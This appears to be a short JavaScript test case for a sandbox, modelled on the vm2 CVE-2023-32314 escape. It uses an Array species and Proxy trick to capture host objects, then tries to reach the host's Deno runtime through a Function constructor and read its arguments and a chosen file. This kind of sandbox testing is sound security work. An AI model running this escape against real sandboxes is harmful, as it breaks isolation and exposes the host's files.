// Tries: Array species on values from the host, so that the host's own code fills an object of ours.
// Origin: vm2 CVE-2023-32314 (a host object made through a Proxy).

let holder = [];
class Trap extends Array {
  static get [Symbol.species]() {
    return function (size) {
      holder.push(this?.constructor, new.target);
      return new Proxy([], { defineProperty: (target, name, own) => (holder.push(own.value), Reflect.defineProperty(target, name, own)) });
    };
  }
}
const value = await tools.echo({ value: [1, 2, 3] });
value.constructor = Trap;
value.map((x) => x);
value.concat([globalThis]);
const found = [];
for (const item of holder) {
  try {
    const platform = item.Deno ?? item.constructor.constructor("return Deno")();
    found.push(platform.args, platform.readTextFileSync(input.file));
  } catch (error) {
    found.push(`${error}`);
  }
}
return found;
